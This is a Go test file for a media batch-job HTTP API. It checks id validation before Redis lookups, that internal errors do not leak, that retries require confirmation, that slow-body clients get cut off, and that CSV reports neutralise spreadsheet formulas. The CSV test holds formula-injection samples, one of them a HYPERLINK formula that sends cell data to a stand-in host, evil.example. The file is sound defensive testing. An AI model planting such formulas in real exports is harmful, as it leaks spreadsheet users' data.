package httpapi_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/redis/go-redis/v9"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/reaper-media/reaper/jobs"
	"github.com/reaper-media/reaper/jobs/httpapi"
	"github.com/reaper-media/reaper/providers"
	"github.com/reaper-media/reaper/providers/faults"
)

// commandCounter is a go-redis hook counting the commands a client sends.
type commandCounter struct{ n atomic.Int64 }

func (c *commandCounter) DialHook(next redis.DialHook) redis.DialHook { return next }
func (c *commandCounter) ProcessHook(next redis.ProcessHook) redis.ProcessHook {
	return func(ctx context.Context, cmd redis.Cmder) error { c.n.Add(1); return next(ctx, cmd) }
}
func (c *commandCounter) ProcessPipelineHook(next redis.ProcessPipelineHook) redis.ProcessPipelineHook {
	return func(ctx context.Context, cmds []redis.Cmder) error { c.n.Add(int64(len(cmds))); return next(ctx, cmds) }
}

// An id that is not in NewBatchID's format never reaches Redis: "<id>:out" used to HGETALL the
// batch's whole record hash and "<id>:parked" to answer 500 WRONGTYPE.
func TestBatchIDsAreCheckedBeforeRedis(t *testing.T) {
	e := start(t, nil)
	code, _, resp := e.do(t, "POST", "/v1/batches", "Bearer "+token, strings.NewReader(manifest(e.stack.Targets(1, 0)...)))
	require.Equal(t, 201, code, string(resp))
	id := decode[httpapi.SubmitResult](t, resp).Batch
	require.True(t, jobs.ValidBatchID(id), id)
	e.startWorker(t)
	e.waitDone(t, id)

	counter := &commandCounter{}
	e.p.Redis.AddHook(counter)
	bad := []string{id + ":out", id + ":parked", id + ":try", "nope", strings.ToLower(id), url.PathEscape(id + "\n"), strings.Repeat("a", 300)}
	for _, b := range bad {
		for _, req := range []struct{ method, path string }{
			{"GET", "/v1/batches/" + b}, {"GET", "/v1/batches/" + b + "/report"}, {"GET", "/v1/batches/" + b + "/report?format=csv"},
			{"POST", "/v1/batches/" + b + "/retry"},
		} {
			code, _, resp := e.do(t, req.method, req.path, "Bearer "+token, nil)
			assert.Equal(t, 404, code, "%s %s: %s", req.method, req.path, resp)
			msg := decode[httpapi.ErrorBody](t, resp).Error
			assert.Contains(t, msg, "is not a batch id (batch ids look like 20261121T124500Z-3fa2c1d0)", req.path)
			assert.Less(t, len(msg), 200, "a long id is not echoed whole")
		}
	}
	assert.Zero(t, counter.n.Load(), "no Redis command for an invalid id")

	// A valid id still works, and a well-formed unknown one is looked up and not found.
	assert.Equal(t, id, e.status(t, id).Batch)
	assert.Positive(t, counter.n.Load())
	unknown := jobs.NewBatchID(time.Now())
	code, _, resp = e.do(t, "GET", "/v1/batches/"+unknown, "Bearer "+token, nil)
	assert.Equal(t, 404, code)
	assert.Contains(t, decode[httpapi.ErrorBody](t, resp).Error, "no such batch: "+unknown+" (never created")
}

// Provider-controlled text in the CSV report cannot become a spreadsheet formula.
func TestCSVReportNeutralisesFormulas(t *testing.T) {
	e := start(t, nil)
	ctx := context.Background()
	id := jobs.NewBatchID(time.Now())
	require.NoError(t, e.p.Store.CreateBatch(ctx, jobs.BatchMeta{ID: id, SubmittedBy: "test"}))
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "@SUM(1+1)", "+1+1", "-2+3", "\tcmd", "\r=1"}
	for i, h := range hostile {
		tg := providers.Target{Provider: providers.SMH, LibraryID: "lib", SpaceID: "-", Path: fmt.Sprintf("dir/file-%d.mp4", i)}
		_, err := e.p.Store.Finish(ctx, jobs.Record{Batch: id, Provider: tg.Provider, Key: tg.Key(), EnqueueID: "e", Target: tg,
			Outcome: jobs.Failed, Code: h, Message: h, RequestID: h}, true)
		require.NoError(t, err)
	}
	code, _, rep := e.do(t, "GET", "/v1/batches/"+id+"/report?format=csv", "Bearer "+token, nil)
	require.Equal(t, 200, code, string(rep))
	rows, err := csv.NewReader(bytes.NewReader(rep)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 1+len(hostile))
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			assert.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])), "cell %q would run as a formula", cell)
		}
		code, msg, reqID := row[6], row[7], row[8]
		assert.Equal(t, msg, code)
		assert.Equal(t, msg, reqID)
		seen[msg] = true
	}
	for _, h := range hostile {
		assert.True(t, seen["'"+h], "%q is kept, behind a single quote", h)
	}
	// The JSONL report, for programs, is unchanged.
	code, _, rep = e.do(t, "GET", "/v1/batches/"+id+"/report", "Bearer "+token, nil)
	require.Equal(t, 200, code)
	assert.Contains(t, string(rep), `"message":"@SUM(1+1)"`)

	for in, want := range map[string]string{"": "", "ok": "ok", "a=b": "a=b", "=1": "'=1", "-": "'-", "\r": "'\r", "'=1": "'=1"} {
		assert.Equal(t, want, jobs.SpreadsheetSafe(in), "%q", in)
	}
}

// A 500 says nothing of Redis: a generic message with an error id, and the cause in the log under it.
func TestInternalErrorsCarryAnIDNotRedisText(t *testing.T) {
	e := start(t, nil)
	code, _, resp := e.do(t, "POST", "/v1/batches", "Bearer "+token, strings.NewReader(manifest(e.stack.Targets(1, 0)...)))
	require.Equal(t, 201, code)
	id := decode[httpapi.SubmitResult](t, resp).Batch
	e.redis.Stop()

	for _, req := range []struct{ method, path string }{
		{"POST", "/v1/batches"}, {"GET", "/v1/batches/" + id}, {"GET", "/v1/batches/" + id + "/report"},
		{"POST", "/v1/batches/" + id + "/retry"},
	} {
		code, _, resp := e.do(t, req.method, req.path, "Bearer "+token, strings.NewReader(manifest(e.stack.Targets(1, 0)...)))
		require.Equal(t, 500, code, "%s %s: %s", req.method, req.path, resp)
		eb := decode[httpapi.ErrorBody](t, resp)
		assert.Regexp(t, `^[0-9a-f]{16}$`, eb.ErrorID)
		assert.Contains(t, eb.Error, "internal error; the server log has its cause under error_id "+eb.ErrorID)
		for _, leak := range []string{"dial", "connect", "refused", "127.0.0.1", e.redis.Addr, "redis", "EOF"} {
			assert.NotContains(t, string(resp), leak, "%s %s", req.method, req.path)
		}
		var logged, requestLine bool
		for _, l := range e.logLines(t) {
			if l["error_id"] != eb.ErrorID {
				continue
			}
			if l["msg"] == "internal error" {
				logged = true
				assert.NotEmpty(t, l["error"], "the cause is logged")
			}
			if l["msg"] == "http request" {
				requestLine = true
			}
		}
		assert.True(t, logged, "the cause is logged under %s", eb.ErrorID)
		assert.True(t, requestLine, "the request's log line names the error id")
	}
}

// Retrying a batch honours enqueue.confirm_above like a submission: more failures than that need confirm=true.
func TestRetryNeedsConfirmAboveTheLimit(t *testing.T) {
	e := start(t, func(o *httpapi.Options) { o.ConfirmAbove = 2 })
	e.stack.Faults(providers.VOD).FailNext(3, faults.Fault{Status: 200, Code: "AuthFailure.SecretIdNotFound", Message: "no"})
	var vod []providers.Target
	for _, tg := range e.stack.Targets(3, 0) {
		if tg.Provider == providers.VOD {
			vod = append(vod, tg)
		}
	}
	code, _, resp := e.do(t, "POST", "/v1/batches?confirm=true", "Bearer "+token, strings.NewReader(manifest(vod...)))
	require.Equal(t, 201, code, string(resp))
	id := decode[httpapi.SubmitResult](t, resp).Batch
	e.startWorker(t)
	require.Equal(t, int64(3), e.waitDone(t, id).Outcomes["failed"])
	before, err := e.p.Store.Batches(context.Background(), 10)
	require.NoError(t, err)

	code, _, resp = e.do(t, "POST", "/v1/batches/"+id+"/retry", "Bearer "+token, nil)
	require.Equal(t, 422, code, string(resp))
	eb := decode[httpapi.ErrorBody](t, resp)
	assert.Equal(t, "confirm", eb.Field)
	assert.Contains(t, eb.Error, "3 failed targets is more than enqueue.confirm_above (2)")
	code, _, resp = e.do(t, "POST", "/v1/batches/"+id+"/retry?confirm=maybe", "Bearer "+token, nil)
	assert.Equal(t, 400, code, string(resp))
	after, err := e.p.Store.Batches(context.Background(), 10)
	require.NoError(t, err)
	assert.Equal(t, before, after, "an unconfirmed retry creates no batch")

	code, _, resp = e.do(t, "POST", "/v1/batches/"+id+"/retry?confirm=true", "Bearer "+token, nil)
	require.Equal(t, 201, code, string(resp))
	assert.Equal(t, 3, decode[httpapi.SubmitResult](t, resp).Enqueued)
}

// Slow uploads cannot hold the submission slots: a client trickling its body is cut off once it
// falls behind the minimum rate, and a normal submission waiting for the slot then goes through.
func TestSlowBodiesDoNotHoldTheSlots(t *testing.T) {
	e := start(t, func(o *httpapi.Options) {
		o.MaxConcurrentSubmits = 2
		o.MinBodyRate = 100 // bytes/s
		o.BodyGrace = 300 * time.Millisecond
	})
	addr := strings.TrimPrefix(e.srv.URL, "http://")
	var wg sync.WaitGroup
	answers := make(chan string, 2)
	stop := make(chan struct{})
	defer func() { close(stop); wg.Wait() }()
	for range 2 { // as many trickling clients as there are slots
		conn, err := net.Dial("tcp", addr)
		require.NoError(t, err)
		t.Cleanup(func() { _ = conn.Close() })
		_, err = fmt.Fprintf(conn, "POST /v1/batches HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Length: 100000\r\n\r\n", token)
		require.NoError(t, err)
		wg.Add(2)
		go func() { // one byte at a time, far below 100 bytes/s, until the server stops listening
			defer wg.Done()
			tick := time.NewTicker(50 * time.Millisecond)
			defer tick.Stop()
			for {
				select {
				case <-stop:
					return
				case <-tick.C:
					if _, err := conn.Write([]byte(" ")); err != nil {
						return
					}
				}
			}
		}()
		go func() {
			defer wg.Done()
			resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
			if err != nil {
				answers <- "no answer: " + err.Error()
				return
			}
			resp.Body.Close()
			answers <- resp.Status
		}()
	}

	// A bound so that slots held for good fail the test instead of hanging it; not a measurement.
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, "POST", e.srv.URL+"/v1/batches", strings.NewReader(manifest(e.stack.Targets(1, 0)...)))
	require.NoError(t, err)
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := e.srv.Client().Do(req)
	require.NoError(t, err, "a normal submission gets a slot")
	resp.Body.Close()
	assert.Equal(t, 201, resp.StatusCode)
	for range 2 {
		assert.Equal(t, "408 Request Timeout", <-answers)
	}
	ids, err := e.p.Store.Batches(context.Background(), 10)
	require.NoError(t, err)
	assert.Len(t, ids, 1, "the slow bodies enqueued nothing")
}
